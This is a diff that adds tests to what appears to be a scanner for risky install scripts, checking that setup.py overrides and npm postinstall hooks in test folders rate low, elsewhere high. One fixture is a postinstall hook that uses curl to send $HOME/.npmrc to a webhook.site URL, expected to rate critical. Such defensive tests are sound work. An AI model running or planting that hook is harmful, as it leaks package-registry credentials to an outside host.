@@ -652,6 +652,22 @@ describe('python-setup-script weighed against the base', () => {
   });
 });
 
+describe('install scripts of projects under a test or fixture folder', () => {
+  const override = lines('from setuptools import setup', 'from setuptools.command.build_ext import build_ext', '', 'class CMakeBuild(build_ext):', '    def run(self):', "        subprocess.check_call(['cmake', '--version'])", '', "setup(name='cmake-pkg', cmdclass={'build_ext': CMakeBuild})", '');
+  const found = (path: string, head: string) => analyze(snapshotOf(change(path, null, head))).findings.filter((f) => f.id === 'python-setup-script' || f.id === 'npm-install-script').map((f) => f.severity);
+  it("are low: they run when a test installs the project, as the tests' own code runs (a package installer's test data rated high)", () => {
+    expect(found('tests/data/src/python-cmake-issue/setup.py', override)).toEqual(['low', 'low']);
+    expect(found('test/fixtures/lifecycle/package.json', pkg({ scripts: { postinstall: 'node ./write-marker.js' } }))).toEqual(['low']);
+    const detail = analyze(snapshotOf(change('tests/data/src/python-cmake-issue/setup.py', null, override))).findings.find((f) => f.id === 'python-setup-script')?.detail;
+    expect(detail).toContain('when a test installs that project');
+  });
+  it("stay high at the package's own root or in a folder that is no test's, and critical when the script sends data out, wherever it is", () => {
+    expect(found('setup.py', override)).toEqual(['high', 'high']);
+    expect(found('packages/testing-utils/package.json', pkg({ scripts: { postinstall: 'node ./setup.js' } }))).toEqual(['high']);
+    expect(found('test/fixtures/lifecycle/package.json', pkg({ scripts: { postinstall: 'curl -d @$HOME/.npmrc https://webhook.site/abc' } }))).toEqual(['critical']);
+  });
+});
+
 describe('git-dependency whose repository the base already used', () => {
   const gitFinding = (before: string, after: string, path = 'package.json') =>
     analyze(snapshotOf(change(path, before, after))).findings.filter((f) => f.id === 'git-dependency').map((f) => [f.severity, f.package]);
